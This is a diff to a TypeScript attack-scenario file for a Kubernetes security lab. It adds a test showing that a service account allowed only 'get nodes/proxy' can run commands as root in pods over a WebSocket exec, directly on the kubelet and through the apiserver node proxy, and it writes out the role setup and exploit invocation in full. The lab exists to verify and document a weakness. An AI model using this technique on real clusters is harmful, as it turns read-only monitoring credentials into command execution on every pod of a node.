@@ -1,6 +1,6 @@
 // Scenarios for the attacks of the catalogue on the apiserver → kubelet path (C9, C10), on one host: the man in
 // the middle stands on the address node-1 advertises, the scanner reaches the kubelets' ports.
-import { channelText, scanKubelet } from '@hubspoke/attacker';
+import { channelText, nodesProxyExec, scanKubelet } from '@hubspoke/attacker';
 import { Observations, type Scenario } from './scenario.ts';
 import type { ScenarioLab } from './scenario-lab.ts';
 
@@ -116,6 +116,40 @@ export const ATTACK_SCENARIOS: Scenario[] = [
       const report = await scanKubelet({ target: `${k.address}:${k.port}`, readOnlyPort: 10255 });
       for (const p of report.probes) o.note(`${p.probe}: ${p.status ?? '-'} ${p.outcome}`);
       o.expect(Object.values(report.attacks).every((a) => a === 'blocked'), 'all three kubelet attacks are blocked');
+      return o.result();
+    },
+  },
+  {
+    id: 'nodes-proxy-get-exec',
+    claims: ['C10'],
+    title: '`get nodes/proxy` is not read-only: it runs commands over a WebSocket',
+    claim: 'Kubelet authorization maps HTTP methods to verbs, and a WebSocket exec starts as a GET, so an identity allowed only to get nodes/proxy (monitoring agents often are) can run commands in every pod of the node, straight on the kubelet and through the apiserver\'s node proxy.',
+    topology: { profile: 'kubernetes-defaults' },
+    steps: [
+      'kubectl create serviceaccount monitor; kubectl create clusterrole nodes-proxy-get --verb=get --resource=nodes/proxy',
+      'kubectl create clusterrolebinding monitor --clusterrole=nodes-proxy-get --serviceaccount=default:monitor',
+      'hubspoke-attacker nodes-proxy-exec --kubelet 127.0.10.1:10250 --token "$(kubectl create token monitor)" --pod shell --command id',
+      'kubectl --token "$(kubectl create token monitor)" exec shell -- id    # Forbidden: the monitor may not even get pods',
+    ],
+    expected: 'kubectl exec is Forbidden for the monitor, yet the same token runs `id` in the pod through a WebSocket to the kubelet, and through the apiserver\'s nodes/node-1/proxy.',
+    async run(lab) {
+      const o = new Observations();
+      await lab.runPod('shell', SHELL);
+      await lab.kubectl(['create', 'serviceaccount', 'monitor']);
+      await lab.kubectl(['create', 'clusterrole', 'nodes-proxy-get', '--verb=get', '--resource=nodes/proxy']);
+      await lab.kubectl(['create', 'clusterrolebinding', 'monitor', '--clusterrole=nodes-proxy-get', '--serviceaccount=default:monitor']);
+      const token = (await lab.kubectl(['create', 'token', 'monitor'])).stdout.trim();
+      const viaKubectl = await lab.kubectl(['exec', 'shell', '--', 'id'], { kubeconfig: await lab.tokenKubeconfig('monitor', token) });
+      o.note(`kubectl exec as the monitor: ${viaKubectl.stderr.trim()}`);
+      o.expect(viaKubectl.code !== 0 && viaKubectl.stderr.includes('User "system:serviceaccount:default:monitor" cannot'), 'kubectl exec is Forbidden: through the API, the monitor may not even read the pod');
+      const k = lab.cluster.kubelets[0];
+      const target = { namespace: 'default', pod: 'shell', container: 'shell', command: ['id'], credentials: { token } };
+      const direct = await nodesProxyExec({ ...target, route: { via: 'kubelet', kubelet: `${k.address}:${k.port}` } });
+      o.note(`straight to the kubelet: ${direct.outcome}${direct.outcome === 'executed' ? `, output ${JSON.stringify(direct.output)}` : ''}`);
+      o.expect(direct.outcome === 'executed' && direct.output.includes('uid=0(root)'), 'get nodes/proxy runs a command on the kubelet');
+      const proxied = await nodesProxyExec({ ...target, route: { via: 'apiserver', server: lab.cluster.server, node: 'node-1' } });
+      o.note(`through the apiserver's node proxy: ${proxied.outcome}`);
+      o.expect(proxied.outcome === 'executed', 'and through nodes/node-1/proxy');
       return o.result();
     },
   },
